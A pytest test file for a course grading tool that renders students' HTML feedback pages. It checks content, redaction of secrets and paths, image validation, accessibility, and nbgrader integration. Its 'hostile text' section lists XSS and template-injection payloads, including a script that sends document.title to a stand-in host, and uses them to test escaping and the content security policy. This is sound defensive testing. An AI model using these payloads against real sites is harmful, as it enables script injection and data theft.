"""The student's feedback page: its content, omitted secrets, hostile text, accessibility."""

from __future__ import annotations

import base64
import binascii
import hashlib
import html
import re
import struct
import subprocess
import sys
import zlib
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import nbformat
import pytest
from browser import PATIENCE
from class_cases import (
    SLUG,
    InProcessExecutor,
    answers,
    by_length,
    copied,
    hand_in,
    released_course,
)
from hypothesis import given, settings
from hypothesis import strategies as st

from course_lib.checks.report import Finding, Part, Report
from course_lib.grading.authoring.trial import build_submission
from course_lib.grading.course import Course, CourseError, this_course
from course_lib.grading.feedback.student_page import feedback_page, task_titles, write_feedback
from course_lib.grading.gradebook.nbgrader import open_gradebook
from course_lib.grading.gradebook.scores import CellScore, Scores, read_scores
from course_lib.grading.jobs import Result, TaskResult
from course_lib.grading.notebooks import grade_id
from course_lib.grading.outcome import Options
from course_lib.grading.results import ResultStore
from course_lib.grading.run import grade
from course_lib.grading.sanitize import (
    first_lines,
    highlighted,
    markdown2html,
    picture,
    printable_text,
)

HERE = this_course()
SEED = 987_654_321_012
WRONG = TaskResult(
    "check_mul_layer",
    2.0,
    4.0,
    Report(
        "mul_layer",
        (
            Part("forward", 1, 1),
            Part("dx", 1, 0, "has the wrong values"),
            Part("dy", 2, 1),
        ),
        Finding(
            "dx from MulLayer.backward has wrong values.",
            wanted="[2. 4.]",
            got="[1. 1.]",
            hint="What does your backward do with dout?",
            misconception="ForgetsUpstream",
        ),
        read=f"{SLUG}#product-node",
        seed=SEED,
    ),
)
RIGHT = TaskResult(
    "check_add_layer",
    3.0,
    3.0,
    Report("add_layer", (Part("forward", 3, 3),), notice="Both get the same."),
)


def with_finding(task: TaskResult, *parts: Part, **changes: str) -> TaskResult:
    """Return a task result with another finding."""
    finding = replace(task.finding, **changes)
    report = replace(task.report, parts=parts or task.report.parts, finding=finding)
    return replace(task, report=report)


PROBLEM = "The submission's process is gone: it ended, with the exit code 3."


def notebook(cells: Mapping[str, str] | None = None, *extra: Any) -> Any:
    """Return a submission with answers, and with the student's own cells near the start."""
    made = build_submission(SLUG, cells or {}, HERE)
    for number, cell in enumerate(extra, start=1):
        made.cells.insert(3 + number, nbformat.from_dict({"id": f"own-{number}", **cell}))
    return made


def own_cell(source: str, *outputs: dict[str, Any], kind: str = "code") -> dict[str, Any]:
    return {"cell_type": kind, "metadata": {}, "source": source, "outputs": list(outputs)}


def printed(text: object) -> dict[str, Any]:
    return {"output_type": "stream", "name": "stdout", "text": text}


def displayed(**data: object) -> dict[str, Any]:
    kinds = {"text": "text/plain", "html": "text/html", "svg": "image/svg+xml"}
    kinds |= {"png": "image/png", "jpeg": "image/jpeg", "js": "application/javascript"}
    shown = {kinds[name]: value for name, value in data.items()}
    return {"output_type": "display_data", "metadata": {}, "data": shown}


def page(
    nb: Any = None,
    tasks: tuple[TaskResult, ...] = (WRONG, RIGHT),
    scores: Scores | None = None,
    problems: tuple[str, ...] = (),
    student: str = "ada",
    **result: Any,
) -> str:
    about = Result(student, SLUG, tasks, seed=SEED, isolation="bubblewrap 1", **result)
    return feedback_page(HERE, nb, about, scores, problems)


class _Words(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.words: list[str] = []

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.words.append("" if tag in ("span", "strong", "code") else " ")

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def visible_text(text: str) -> str:
    """Return the visible text of a page, with single spaces."""
    parser = _Words()
    parser.feed(text.partition("</head>")[2])
    return " ".join("".join(parser.words).split())


def scores(**cells: CellScore) -> Scores:
    return Scores("ada", SLUG, {cell.name: cell for cell in cells.values()})


# --- content --------------------------------------------------------------------------------------


def test_page_shows_points_and_reasons_by_task() -> None:
    said = visible_text(page(notebook({"mul_layer": "class MulLayer: ..."})))
    assert "Exercise 1: the shopping cart" in said
    assert "Feedback for ada" in said
    assert "5 of 33 points" in said  # 2 + 3
    assert "Task 1: a product node partly correct 2 / 4" in said
    assert "Task 2: a sum node correct 3 / 3" in said
    assert "✓ forward 1 / 1 earned" in said
    assert "✗ dx 0 / 1 has the wrong values" in said
    assert "✗ dy 1 / 2" in said
    assert (
        "dx from MulLayer.backward has wrong values. Expected [2. 4.] Got [1. 1.] "
        "Think What does your backward do with dout? "
        f"Read chapter {SLUG}, section “product-node”"
    ) in said
    assert "Both get the same." in said
    assert "Your code class MulLayer: ..." in said


def test_tasks_are_in_notebook_order_with_their_code() -> None:
    made = page(notebook({"mul_layer": "FIRST = 1", "add_layer": "SECOND = 2", "explain": "WORDS"}))
    said = visible_text(made)
    order = [
        "FIRST = 1",
        "Task 2: a sum node",
        "SECOND = 2",
        "Task 3: the cart",
        "Your text WORDS",
    ]
    places = [said.rindex(text) for text in order]
    assert places == sorted(places)


def test_manual_points_and_comments_are_shown_and_counted() -> None:
    given = replace(
        scores(
            a=CellScore("check_mul_layer", 3.5, 4, by_person=True),
            b=CellScore("check_add_layer", 3, 3),
            c=CellScore("explain", 0, 3, waits=True),
        ),
        comments={"mul_layer": "Nearly.\n<b>Look</b> at dout.", "explain": "No response."},
        first_name="Ada",
        last_name="Lovelace",
        late_penalty=1.5,
    )
    said = visible_text(page(notebook(), scores=given))
    assert "Feedback for Ada Lovelace" in said
    assert "5 of 33 points" in said  # 3.5 + 3 - 1.5
    assert "Late submission: 1.5 points deducted." in said
    assert "3.5 of 4 points, graded by hand" in said
    assert "Comment Nearly. <b>Look</b> at dout." in said
    assert "Task 8: explain to be graded by hand 0 / 3" in said


def test_each_problem_is_shown_once() -> None:
    made = page(notebook(), problems=("A cell is missing.", PROBLEM))
    assert visible_text(made).count(PROBLEM) == 1
    result = Result("ada", SLUG, (WRONG,), problems=(PROBLEM,))
    said = visible_text(
        feedback_page(HERE, notebook(), result, None, ("A cell is missing.", PROBLEM))
    )
    assert said.count(PROBLEM) == 1
    assert said.count("A cell is missing.") == 1
    assert "An instructor will look at it." in said


def test_an_unreadable_submission_has_a_page() -> None:
    given = scores(a=CellScore("check_mul_layer", 0, 4, waits=True))
    result = Result("ada", SLUG)
    said = visible_text(feedback_page(HERE, None, result, given, ("It is no notebook.",)))
    assert "It is no notebook." in said
    assert "mul_layer to be graded by hand 0 / 4" in said
    assert "0 of 4 points" in said
    assert visible_text(feedback_page(HERE, None, result)).startswith(SLUG)


def test_students_own_cells_are_shown_at_their_position() -> None:
    nb = notebook(
        {"mul_layer": "x = 1"},
        own_cell("print(1)", printed("1\n")),
        own_cell("Mine.", kind="markdown"),
    )
    said = visible_text(page(nb))
    assert "Your code print(1) Output 1 Your text Mine." in said


def test_outputs_come_from_the_result_or_else_from_the_notebook() -> None:
    nb = notebook({}, own_cell("print(1)", printed("from the notebook")))
    assert "from the notebook" in page(nb)
    outputs = tuple(
        [printed("from the result")] if cell["id"] == "own-1" else [] for cell in nb.cells
    )
    made = page(nb, outputs=outputs)
    assert "from the result" in made
    assert "from the notebook" not in made


def test_errors_results_and_pictures_are_shown() -> None:
    failed = {
        "output_type": "error",
        "ename": "KeyError",
        "evalue": "'slop'",
        "traceback": ["  line 2 of cell 3", "\x1b[31mKeyError\x1b[0m: 'slop'"],
    }
    nb = notebook({}, own_cell("f()", printed("a"), printed("b\n"), displayed(text="3.5"), failed))
    made = page(nb)
    assert '<pre class="output">ab\n</pre>' in made
    assert '<pre class="output">3.5</pre>' in made
    assert '<pre class="output bad">  line 2 of cell 3\nKeyError: &#39;slop&#39;</pre>' in made
    nb = notebook({}, own_cell("plot()", displayed(png=png(4, 3), text="<Figure>")))
    assert f'<img src="data:image/png;base64,{png(4, 3)}" width="4" height="3" alt="' in page(nb)


# --- omitted content ------------------------------------------------------------------------------


def test_pictures_in_a_written_answer_are_shown() -> None:
    photo = png(4000, 3000, pixels=b"\0" * 1_000_000)
    assert picture("image/png", photo) is None
    cell = own_cell("see ![](attachment:a)", kind="markdown")
    cell["attachments"] = {"a": {"image/png": photo}, "b": {"image/svg+xml": "<svg/>"}}
    made = page(notebook(None, cell))
    assert f'src="data:image/png;base64,{photo}"' in made
    assert "A picture that you submitted" in made
    assert "A picture was left out" in made


def test_pasted_pictures_are_in_nbgraders_pages() -> None:
    cell = {"attachments": {"a b.png": {"image/png": png(4, 3)}, "c": {"image/png": "x"}}}
    made = markdown2html({"cell": cell}, "![](attachment:a%20b.png) ![](attachment:c) <script>1")
    assert f'src="data:image/png;base64,{png(4, 3)}"' in made
    assert "attachment:c" not in made
    assert "<script" not in made


def test_page_contains_no_grade_cell_and_no_seed() -> None:
    nb = notebook({"mul_layer": "x = 1"})
    for cell in nb.cells:
        if grade_id(cell).startswith("check_"):
            cell.source = f"{cell.source}\nassert HIDDEN_TEST"
            cell.outputs = [printed("OUTPUT OF THE CHECK")]
    made = page(nb)
    assert "HIDDEN_TEST" not in made
    assert "OUTPUT OF THE CHECK" not in made
    assert "checks." not in made
    assert str(SEED) not in made
    assert "ForgetsUpstream" not in made  # its name is for instructors


def test_page_contains_no_path_of_this_machine() -> None:
    course, home = str(HERE.root), str(Path.home())
    problem = f"It can't be read: '{course}/submitted/ada/x.ipynb' nor /etc/secret/key.pem."
    wrong = with_finding(WRONG, problem=f"OSError: {home}/x/y.txt", got=f"{sys.prefix}/lib/z.py")
    nb = notebook({}, own_cell("f()", printed(f"File {course}/solutions/a.md, {home}/b")))
    made = page(nb, (wrong,), problems=(problem,))
    for secret in (course, f"{home}/", sys.prefix, "/etc/secret"):
        assert secret not in made
    assert "…/x.ipynb" in made
    assert "…/key.pem" in made
    assert "dL/dx" in page(nb, (with_finding(WRONG, problem="dL/dx and a / b / c"),))
    assert "a / b / c" in page(nb, (with_finding(WRONG, problem="dL/dx and a / b / c"),))


def test_page_is_small_and_self_contained() -> None:
    made = page(notebook(answers(HERE)))
    assert len(made.encode()) < 60_000
    assert not re.search(r'(?:src|href)="(?!#|data:image/(?:png|jpeg);base64,)', made)
    assert "<script" not in made
    assert "default-src 'none'; img-src data:; style-src 'unsafe-inline'" in made


def test_long_outputs_are_cut_with_a_note() -> None:
    nb = notebook({"mul_layer": "x = 1\n" * 20_000}, own_cell("f()", printed("x" * 5_000_000)))
    made = page(nb)
    assert len(made) < 400_000
    assert "4,992,000 more characters are left out here." in made
    lines = page(notebook({}, own_cell("f()", printed("\n".join("abc" for _ in range(1000))))))
    assert "… 800 more lines are left out here." in lines
    many = notebook({}, *(own_cell("f()", *[printed("y" * 20_000)] * 50) for _ in range(50)))
    assert len(page(many)) < 400_000
    pictures = notebook({}, *(own_cell("p()", displayed(png=big_png())) for _ in range(30)))
    assert len(page(pictures)) < 1_700_000


# --- untrusted text -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b]0;title\x07text", "text"),
        ("\x1b]8;;http://x.example\x1b\\link\x1b]8;;\x1b\\", "link"),
        ("\x1b(Bplain\x1bc", "plain"),
        ("\x9b31mC1", "\ufffd31mC1"),
        ("50%\r100%\n", "100%\n"),
        ("a\r\nb", "a\nb"),
        ("a\u202eb\u2066c", "a[U+202E]b[U+2066]c"),
        ("zero\u200bwidth\ufeff", "zero[U+200B]width[U+FEFF]"),
        ("half \ud800 half", "half \ufffd half"),
        ("nul\x00bell\x07", "nul\ufffdbell\ufffd"),
        ("tab\tand\nline", "tab\tand\nline"),
        ("zwj 👩\u200d🔬 ok", "zwj 👩\u200d🔬 ok"),
        (b"bytes", ""),
        (None, ""),
        (["list"], ""),
    ],
)
def test_printable_text_removes_or_marks_control_characters(written: object, shown: str) -> None:
    assert printable_text(written) == shown


def test_long_text_is_cut() -> None:
    assert printable_text("abcdef", 4) == "abcd\n… 2 more characters are left out here."
    assert first_lines("a\nb\nc", 2) == "a\nb\n… 1 more lines are left out here."
    assert len(first_lines("x" * 9999, 2)) == 2001


@given(st.text())
@settings(max_examples=200, deadline=None)
def test_highlighting_keeps_every_character_and_escapes_tags(code: str) -> None:
    made = str(highlighted(code))
    assert html.unescape(re.sub(r'<span class="[a-z]">|</span>', "", made)) == code
    assert not re.search(r'<(?!span class="[a-z]">|/span>)', made)


def test_highlighting_marks_keywords_names_strings_and_comments() -> None:
    assert str(highlighted("def f(): return 'a<b'  # ok")) == (
        '<span class="k">def </span><span class="f">f</span>(): <span class="k">return </span>'
        '<span class="s">&#x27;a&lt;b&#x27;  </span><span class="c"># ok</span>'
    )


# --- pictures -------------------------------------------------------------------------------------


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(
    width: int, height: int, *extra: bytes, after: bytes = b"", pixels: bytes | None = None
) -> str:
    raw = b"".join(b"\0" + bytes(width) for _ in range(height)) if pixels is None else pixels
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    body = b"".join([head, *extra, chunk(b"IDAT", zlib.compress(raw)), chunk(b"IEND", b"")])
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + body + after).decode()


def big_png() -> str:
    import random

    noise = random.Random(0).randbytes(300_000)
    return png(550, 545, pixels=noise)


def jpeg(width: int = 5, height: int = 4) -> bytes:
    app = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0" + bytes(9)
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, height, width, 3) + bytes(9)
    return b"\xff\xd8" + app + frame + b"\xff\xd9"


def test_png_and_jpeg_pictures_are_accepted() -> None:
    assert picture("image/png", png(4, 3)).address == f"data:image/png;base64,{png(4, 3)}"
    made = picture("image/jpeg", base64.b64encode(jpeg()).decode())
    assert (made.width, made.height) == (5, 4)
    lines = "\n".join(re.findall(".{1,20}", png(4, 3)))
    assert picture("image/png", lines) == picture("image/png", png(4, 3))


def test_metadata_and_trailing_bytes_of_a_png_are_removed() -> None:
    text = chunk(b"tEXt", b"Comment\0<script>alert(1)</script>")
    assert picture("image/png", png(4, 3, text, after=b"<html>")) == picture("image/png", png(4, 3))


@pytest.mark.parametrize(
    ("kind", "encoded"),
    [
        ("image/png", base64.b64encode(b"<svg onload=alert(1)>").decode()),
        ("image/png", base64.b64encode(jpeg()).decode()),
        ("image/png", png(0, 4)),
        ("image/png", png(2**31 - 1, 2**31 - 1, pixels=b"")),
        ("image/png", png(4000, 4000, pixels=b"")),
        ("image/png", png(4, 3)[:40]),
        ("image/png", png(4, 3) + '"><script>alert(1)</script>'),
        ("image/png", "data:image/png;base64," + png(4, 3)),
        ("image/png", "é" * 8),
        ("image/png", "A" * 1_000_000),
        ("image/png", None),
        ("image/png", [png(4, 3)]),
        ("image/jpeg", png(4, 3)),
        ("image/jpeg", base64.b64encode(b"\xff\xd8\xff\xd9").decode()),
        ("image/jpeg", base64.b64encode(jpeg()[:-2]).decode()),
        ("image/svg+xml", base64.b64encode(b"<svg/>").decode()),
        ("text/html", png(4, 3)),
    ],
)
def test_invalid_or_oversized_pictures_are_refused(kind: str, encoded: object) -> None:
    assert picture(kind, encoded) is None


def test_a_png_with_a_wrong_checksum_is_refused() -> None:
    data = bytearray(base64.b64decode(png(4, 3)))
    data[20] ^= 1
    assert binascii.crc32(data[12:29]) != struct.unpack(">I", data[29:33])[0]
    assert picture("image/png", base64.b64encode(bytes(data)).decode()) is None


# --- hostile text in a browser --------------------------------------------------------------------

RUN = "window.ran = true; fetch('http://hostile.example/' + document.title)"
MARKUP = [
    f"<script>{RUN}</script>",
    f"</style><script>{RUN}</script><style>",
    f"</title></head><body><script>{RUN}</script>",
    f'--></pre></code></section></main><img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"><animate onbegin="{RUN}"></svg>',
    f'"><details open ontoggle="{RUN}">',
    f"' autofocus onfocus=\"{RUN}\" tabindex=1 x='",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "<meta http-equiv=refresh content='0;url=http://hostile.example/'>",
    "<link rel=stylesheet href=http://hostile.example/a.css><base href=http://hostile.example/>",
    "<style>@import 'http://hostile.example/b.css'; *{background:url(http://hostile.example/c)}</style>",
    "<form action=http://hostile.example/><input type=submit autofocus></form>",
    f'<a href="javascript:{RUN}">click</a> [click](javascript:{RUN})',
    "![p](http://hostile.example/p.png) <img src=http://hostile.example/q.png>",
    "<object data=http://hostile.example/o></object><embed src=http://hostile.example/e>",
    "{{ ''.__class__.__mro__ }} {% raw %} {{ css }} ${7*7} <%= 7*7 %>",
    f'<math><mtext></form><mglyph><style></math><img src onerror="{RUN}">',
    f"\ud800<script>{RUN}</script>\udfff\x00\ufeff+ADw-script+AD4-",
    "\u202e\u2066 nettelle \u2069 \u0000 \x1b]0;owned\x07 \x1b[2J",
    "a" * 20_000,
    "\u0301" * 3_000,
]
LEGAL = (
    "body, h1, h2, h3, header, main, section, p, strong, table, thead, tbody, caption, tr, th, td, "
)
LEGAL += "a, span, div, ul, li, ol, dl, dt, dd, pre, code, img, br, em"
SEEN = """(legal) => ({
  ran: window.ran === true,
  strange: [...document.querySelectorAll("body, body *")].filter((el) => !el.matches(legal))
    .map((el) => el.outerHTML.slice(0, 100)),
  acts: [...document.querySelectorAll("*")].flatMap((el) => [...el.attributes])
    .map((a) => a.name + "=" + a.value)
    .filter((a) => /^(on|srcdoc|formaction|xlink)/i.test(a) || /javascript:/i.test(a)),
  heads: document.querySelectorAll("title").length + document.querySelectorAll("style").length,
  inHead: [...document.head.children].map((el) => el.tagName.toLowerCase()).join(" "),
  links: [...document.querySelectorAll("[href], [src]")]
    .map((el) => el.getAttribute("href") || el.getAttribute("src"))
    .filter((link) => !/^(#|data:image\\/(png|jpeg);base64,|[.][.]\\/[.][.]\\/feedback\\/)/
      .test(link)),
})"""


@contextmanager
def open_page(
    browser: Any, folder: Path, made: str, **options: Any
) -> Iterator[tuple[Any, list[str]]]:
    """Open a page, and record its requests, dialogs, popups, console messages and errors."""
    file = folder / "page.html"
    file.write_bytes(made.encode())
    context = browser.new_context(**{"viewport": {"width": 900, "height": 900}} | options)
    tab = context.new_page()
    tab.set_default_timeout(PATIENCE)
    said: list[str] = []
    tab.on("request", lambda request: said.append(request.url))
    tab.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    tab.on("popup", lambda popup: said.append(popup.url))
    tab.on("console", lambda message: said.append(message.text))
    tab.on("pageerror", lambda error: said.append(str(error)))
    tab.goto(file.as_uri())
    try:
        yield tab, said
    finally:
        context.close()


def assert_inert(browser: Any, folder: Path, made: str) -> None:
    with open_page(browser, folder, made) as (tab, said):
        seen = tab.evaluate(SEEN, LEGAL)
        tab.wait_for_timeout(50)
        asked = [url for url in said if not url.startswith("data:image/")]
        assert asked == [(folder / "page.html").as_uri()]
    assert seen == {
        "ran": False,
        "strange": [],
        "acts": [],
        "heads": 2,
        "inHead": "meta meta meta meta meta title style",
        "links": [],
    }


def hostile_page(text: str) -> str:
    """Return a page with the same text in every untrusted place."""
    wrong = with_finding(
        WRONG,
        Part(text, 1, 0, text),
        **dict.fromkeys(("problem", "wanted", "got", "hint"), text),
    )
    wrong = replace(wrong, report=replace(wrong.report, read=text))
    failed = {"output_type": "error", "ename": text, "evalue": text, "traceback": [text, text]}
    alone = {"output_type": "error", "ename": text, "evalue": text, "traceback": []}
    nb = notebook(
        {"mul_layer": text, "explain": text},
        own_cell(
            text, printed(text), displayed(text=text), displayed(html=text, svg=text, js=text)
        ),
        own_cell(text, displayed(png=text), displayed(jpeg=text), failed, alone),
        own_cell(text, kind="markdown"),
        own_cell(text, {"output_type": text, "data": text}, printed([text, 5, None])),
    )
    given = Scores(
        text,
        SLUG,
        {"check_mul_layer": CellScore("check_mul_layer", 1, 4)},
        {"mul_layer": text, "explain": text},
        first_name=text,
        last_name=text,
    )
    right = replace(RIGHT, report=replace(RIGHT.report, notice=text))
    return page(nb, (wrong, right), given, (text,), student=text)


@pytest.mark.sample(every=3)
@pytest.mark.parametrize("text", MARKUP, ids=lambda text: ascii(text[:30]))
def test_hostile_text_is_inert(browser: Any, tmp_path: Path, text: str) -> None:
    made = hostile_page(text)
    made.encode("utf-8")
    assert_inert(browser, tmp_path, made)


def test_assert_inert_detects_unescaped_markup(browser: Any, tmp_path: Path) -> None:
    """`assert_inert` must fail although the page's policy blocks the script."""
    from markupsafe import Markup

    tricked = page(notebook()).replace("Feedback for ada", Markup(MARKUP[0] + MARKUP[3]))
    with pytest.raises(AssertionError):
        assert_inert(browser, tmp_path, tricked)


def test_content_security_policy_blocks_unescaped_markup(browser: Any, tmp_path: Path) -> None:
    """Without any escaping, no script runs and no request is sent."""
    bad = "".join(MARKUP[i] for i in (0, 3, 4, 7, 9, 10, 13, 14))
    made = page(notebook()).replace("Feedback for ada", bad)
    left: list[str] = []
    with open_page(browser, tmp_path, "<!doctype html><title>t</title>") as (tab, _said):
        tab.context.route(
            "http://**/*", lambda route: (left.append(route.request.url), route.abort())
        )
        file = tmp_path / "bad.html"
        file.write_text(made)
        tab.goto(file.as_uri())
        tab.wait_for_timeout(100)
        assert tab.evaluate("window.ran") is None
        assert left == []
        # Without the policy, scripts run and requests are sent.
        file.write_text(re.sub("<meta http-equiv=.Content-Security-Policy.[^>]*>", "", made))
        tab.goto(file.as_uri())
        tab.wait_for_timeout(100)
        assert tab.evaluate("window.ran") is True
        assert len(left) > 3


def test_invisible_characters_are_shown_by_code_point() -> None:
    said = visible_text(hostile_page(MARKUP[18]))
    assert "[U+202E][U+2066] nettelle" in said
    assert not re.search("[\u202a-\u202e\u2066-\u2069\x00\x1b]", hostile_page(MARKUP[18]))


# --- accessibility and print ----------------------------------------------------------------------


def full_page() -> str:
    nb = notebook(
        answers(HERE),
        own_cell("plot()", displayed(png=png(600, 400), text="<Figure>"), printed("w" * 3000)),
        own_cell("Words of my own.", kind="markdown"),
    )
    given = Scores(
        "ada",
        SLUG,
        {
            "check_mul_layer": CellScore("check_mul_layer", 3, 4, by_person=True),
            "check_add_layer": CellScore("check_add_layer", 3, 3),
            "explain": CellScore("explain", 0, 3, waits=True),
        },
        {"mul_layer": "Nearly."},
        late_penalty=1,
    )
    return page(nb, (WRONG, RIGHT), given, (PROBLEM,))


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_no_violation(browser: Any, axe: str, tmp_path: Path, scheme: str) -> None:
    from browser import violations

    with open_page(browser, tmp_path, full_page(), color_scheme=scheme, bypass_csp=True) as (
        tab,
        _,
    ):
        assert violations(tab, axe) == []


@pytest.mark.parametrize("made", [full_page, lambda: hostile_page("a" * 20_000)])
def test_page_fits_a_phone(browser: Any, tmp_path: Path, made: Any) -> None:
    from browser import sideways

    phone = {"viewport": {"width": 360, "height": 740}}
    with open_page(browser, tmp_path, made(), **phone) as (tab, _):
        assert sideways(tab) == []


def test_printed_page_is_black_on_white(browser: Any, tmp_path: Path) -> None:
    with open_page(browser, tmp_path, full_page(), color_scheme="dark") as (tab, _):
        tab.emulate_media(media="print")
        colours = "(s) => [...document.querySelectorAll(s)].map((e) => getComputedStyle(e).color)"
        assert set(tab.evaluate(colours, "p, th, td, pre")) <= {"rgb(0, 0, 0)", "rgb(51, 51, 51)"}
        back = tab.evaluate("getComputedStyle(document.body).backgroundColor")
        assert back == "rgb(255, 255, 255)"


# --- files ----------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> Course:
    course = released_course(tmp_path_factory.mktemp("pages") / "my course")
    hand_in(course, "ada", answers(course), when="2026-03-01 12:00:00 UTC")
    hand_in(course, "bob", {"mul_layer": "x = 1"})
    hand_in(course, "eve", "no notebook")
    grade(course, [SLUG], InProcessExecutor(by_length), Options(seed=1))
    return course


@pytest.fixture
def course(graded: Course, tmp_path: Path) -> Course:
    return copied(graded, tmp_path / "my course")


def feedback_path(course: Course, student: str) -> Path:
    return course.root / "feedback" / student / SLUG / f"{SLUG}.html"


def test_grading_writes_pages_to_nbgraders_feedback_folder(course: Course) -> None:
    assert "Feedback for ada" in feedback_path(course, "ada").read_text()
    assert "x = 1" in html.unescape(re.sub("<[^>]*>", "", feedback_path(course, "bob").read_text()))
    assert "Problems" in feedback_path(course, "eve").read_text()


def test_write_feedback_adds_manual_points_and_comments(course: Course) -> None:
    with open_gradebook(course) as book:
        book.find_grade("explain", SLUG, SLUG, "ada").manual_score = 2.5
        book.find_grade("explain", SLUG, SLUG, "ada").needs_manual_grade = False
        book.find_comment("explain", SLUG, SLUG, "ada").manual_comment = "Well put."
        book.db.commit()
    before = feedback_path(course, "bob").read_text()
    written = write_feedback(course, SLUG)
    assert (written.pages, written.left_out) == (3, [])
    said = visible_text(feedback_path(course, "ada").read_text())
    assert "2.5 of 3 points, graded by hand" in said
    assert "Well put." in said
    assert feedback_path(course, "bob").read_text() == before
    assert read_scores(course, SLUG)["ada"].by_person


def test_ungraded_submissions_get_no_page(course: Course) -> None:
    hand_in(course, "bob", {"mul_layer": "x = 2"})
    hand_in(course, "kim", {"mul_layer": "x = 3"})
    ResultStore(course, SLUG).forget(["eve"])
    before = feedback_path(course, "bob").read_text()
    written = write_feedback(course, SLUG)
    assert written.pages == 1
    assert written.left_out == [
        "bob: resubmitted since it was graded",
        "eve: not graded yet",
        "kim: not graded yet",
    ]
    assert feedback_path(course, "bob").read_text() == before
    assert not feedback_path(course, "kim").exists()
    assert write_feedback(course, SLUG, ["ada"]).pages == 1


def nbgrader(course: Course, *command: str) -> None:
    subprocess.run(
        [sys.executable, "-m", "nbgrader", *command],
        cwd=course.root,
        check=True,
        capture_output=True,
        timeout=1200,
    )


def hand_in_with_secret(
    course: Course, student: str, cells: Mapping[str, str], secret: str
) -> None:
    """Write a submission with its secret as `nbgrader collect` does."""
    folder = hand_in(course, student, cells, when="2026-03-01 12:00:00.000000 UTC").parent
    (folder / "submission_secret.txt").write_text(secret)


def released_feedback(course: Course, secret: str) -> bytes:
    """Return the page that `nbgrader fetch_feedback` finds by a secret."""
    name = hashlib.md5(secret.encode() + SLUG.encode()).hexdigest()
    (page,) = (course.root / "exchange").glob(f"*/feedback/{name}.html")
    return page.read_bytes()


def test_release_feedback_releases_the_pages_of_course_grade(course: Course) -> None:
    solved = answers(course)
    hand_in_with_secret(course, "ada", solved, "first" * 20)
    hand_in_with_secret(course, "bob", {"mul_layer": "x = 1"}, "bob's" * 20)
    grade(course, [SLUG], InProcessExecutor(by_length), Options(seed=1))
    first = feedback_path(course, "ada").read_bytes()
    # eve's submission has no secret, which does not affect the others
    nbgrader(course, "release_feedback", SLUG)
    assert released_feedback(course, "first" * 20) == first
    assert released_feedback(course, "bob's" * 20) == feedback_path(course, "bob").read_bytes()

    # ada submits the same cells again, with a new secret
    hand_in_with_secret(course, "ada", solved, "second" * 20)
    # bob's submission has no secret any more
    (course.root / "submitted" / "bob" / SLUG / "submission_secret.txt").unlink()
    grade(course, [SLUG], InProcessExecutor(by_length), Options(seed=1))
    beside = feedback_path(course, "bob").with_name("submission_secret.txt")
    assert beside.read_text() != "bob's" * 20
    nbgrader(course, "release_feedback", SLUG)
    assert released_feedback(course, "second" * 20) == feedback_path(course, "ada").read_bytes()


@pytest.mark.slow
def test_generate_feedback_replaces_the_page(course: Course) -> None:
    hand_in_with_secret(course, "ada", answers(course), "first" * 20)
    grade(course, [SLUG], InProcessExecutor(by_length), Options(seed=1))
    made = feedback_path(course, "ada").read_bytes()
    nbgrader(course, "generate_feedback", SLUG, "--student=ada", "--force")
    theirs = feedback_path(course, "ada").read_bytes()
    assert theirs != made
    assert b"notebook" in theirs
    nbgrader(course, "release_feedback", SLUG, "--student=ada")
    assert released_feedback(course, "first" * 20) == theirs


@pytest.mark.parametrize("kind", ["link", "bytes", "large", "empty"])
def test_an_invalid_submission_secret_is_replaced(
    course: Course, tmp_path: Path, kind: str
) -> None:
    (tmp_path / "private").write_text("private")
    secret = course.root / "submitted" / "ada" / SLUG / "submission_secret.txt"
    if kind == "link":
        secret.symlink_to(tmp_path / "private")
    else:
        secret.write_bytes({"bytes": b"\xff", "large": b"a" * 2000, "empty": b""}[kind])
    assert write_feedback(course, SLUG, ["ada"]).pages == 1
    beside = feedback_path(course, "ada").with_name("submission_secret.txt")
    assert re.fullmatch("[0-9a-f]{64}", beside.read_text())


def test_task_titles_come_from_the_headings() -> None:
    titles = task_titles(notebook())
    assert titles["check_mul_layer"] == "Task 1: a product node"
    assert titles["explain"] == "Task 8: explain"
    assert list(titles)[:2] == ["check_mul_layer", "check_add_layer"]


def test_an_unreleased_assignment_is_reported(course: Course) -> None:
    course.record(SLUG).unlink()
    with pytest.raises(CourseError, match="course release"):
        write_feedback(course, SLUG)
